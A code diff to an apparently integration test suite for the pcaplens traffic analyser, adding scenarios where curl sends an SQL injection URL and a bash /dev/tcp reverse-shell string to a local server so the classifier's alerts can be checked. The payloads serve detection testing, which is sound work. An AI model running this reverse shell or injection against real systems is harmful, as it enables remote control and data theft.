@@ -13,6 +13,12 @@ Scenarios:
 - main: the traffic above; pcaplens writes alerts (with flows) and keeps the
   packets (--write); SIGINT at the end.
 - filter: the same traffic with `-f "tcp port 80"`.
+- classify: `--classify` with the rule-based classifier (no endpoint): curl
+  sends an SQL injection and a reverse-shell string in HTTP requests; the EVE
+  alerts must carry the categories.
+- classify_model: the same against a local chat-completions server
+  (tests/traffic/chat_server.py on 127.0.0.1 inside namespace b), which records
+  every request.
 """
 import json
 import os
@@ -24,6 +30,7 @@ import time
 from transport import Lab  # noqa: E402  (namespaces, veths, processes, cleanup)
 
 SERVER, CLIENT = "10.6.0.2", "10.6.0.1"
+HERE = os.path.dirname(os.path.abspath(__file__))
 
 
 def wait_line(p, needle, what, timeout=20):
@@ -135,6 +142,74 @@ def scenario(lab, pcaplens, out, bpf):
     }
 
 
+SQLI_URL = "http://%s/search?q=1%%27%%20OR%%201=1%%20UNION%%20SELECT%%20password%%20FROM%%20users--" % SERVER
+SHELL_BODY = "cmd=bash -i >& /dev/tcp/%s/4444 0>&1" % CLIENT
+
+
+def scenario_classify(lab, pcaplens, out, model):
+    a, b = lab.ns("a"), lab.ns("b")
+    va, vb = lab.veth(a, b)
+    for ns, iface in ((a, va), (b, vb)):
+        lab.sysctl(ns, "net.ipv6.conf.%s.disable_ipv6" % iface, 1)
+    lab.ip(a, "addr add %s/24 dev %s" % (CLIENT, va))
+    lab.ip(b, "addr add %s/24 dev %s" % (SERVER, vb))
+    www = os.path.join(out, "www")
+    os.makedirs(www, exist_ok=True)
+    with open(os.path.join(www, "index.html"), "w") as f:
+        f.write("<html>pcaplens classify test</html>\n")
+    lab.spawn(b, [sys.executable, "-m", "http.server", "--bind", SERVER, "--directory", www, "80"],
+              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    env = {k: v for k, v in os.environ.items()
+           if k not in ("AZURE_OPENAI_ENDPOINT", "OPENAI_BASE_URL", "OPENAI_API_KEY")}
+    requests_log = os.path.join(out, "requests.jsonl")
+    if model:
+        open(requests_log, "w").close()
+        chat = lab.spawn(b, [sys.executable, os.path.join(HERE, "chat_server.py"), requests_log],
+                         stdout=subprocess.PIPE)
+        port = int(chat.stdout.readline())
+        env["OPENAI_BASE_URL"] = "http://127.0.0.1:%d/v1" % port
+        env["OPENAI_MODEL"] = "test-model"
+    alerts = os.path.join(out, "alerts.json")
+    report = open(os.path.join(out, "report.json"), "wb")
+    cmd = [pcaplens, "live", "-i", vb, "--json", "--classify", "--alerts", alerts,
+           "--flow-timeout", "2"]
+    # cwd: an empty directory (no .env is read).
+    live = lab.spawn(b, cmd, stdout=report, stderr=subprocess.PIPE, env=env, cwd=out)
+    wait_line(live, b"listening on", "pcaplens live")
+    time.sleep(0.5)
+    for _ in range(50):
+        r = lab.spawn(a, ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
+                          "http://%s/index.html" % SERVER], stdout=subprocess.PIPE)
+        if r.communicate(timeout=10)[0].decode() == "200":
+            break
+        time.sleep(0.2)
+    lab.run(a, ["curl", "-s", "-o", "/dev/null", SQLI_URL])
+    lab.run(a, ["curl", "-s", "-o", "/dev/null", "--data", SHELL_BODY,
+                "http://%s/upload" % SERVER])
+    # The alerts arrive while the capture runs.
+    seen_at = None
+    deadline = time.monotonic() + 20
+    while time.monotonic() < deadline:
+        cats = {x["alert"]["metadata"]["classify_category"][0] for x in alerts_of(alerts)
+                if x.get("event_type") == "alert" and x["alert"]["signature_id"] == 9000100}
+        if {"sql_injection", "reverse_shell"} <= cats:
+            seen_at = time.monotonic()
+            break
+        time.sleep(0.2)
+    live.send_signal(signal.SIGINT)
+    err = live.stderr.read().decode()
+    rc = live.wait(timeout=30)
+    report.close()
+    return {
+        "rc": rc,
+        "stderr": err[-4000:],
+        "alerts_while_running": seen_at is not None,
+        "alerts": alerts_of(alerts),
+        "requests": alerts_of(requests_log) if model else [],
+        "originals": [SERVER, CLIENT],
+    }
+
+
 def main():
     name, pcaplens, out, tag = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
     os.makedirs(out, exist_ok=True)
@@ -145,7 +220,10 @@ def main():
     signal.signal(signal.SIGALRM, too_long)
     signal.alarm(150)
     try:
-        res = scenario(lab, pcaplens, out, "tcp port 80" if name == "filter" else None)
+        if name.startswith("classify"):
+            res = scenario_classify(lab, pcaplens, out, name == "classify_model")
+        else:
+            res = scenario(lab, pcaplens, out, "tcp port 80" if name == "filter" else None)
     finally:
         signal.alarm(0)
         lab.close()
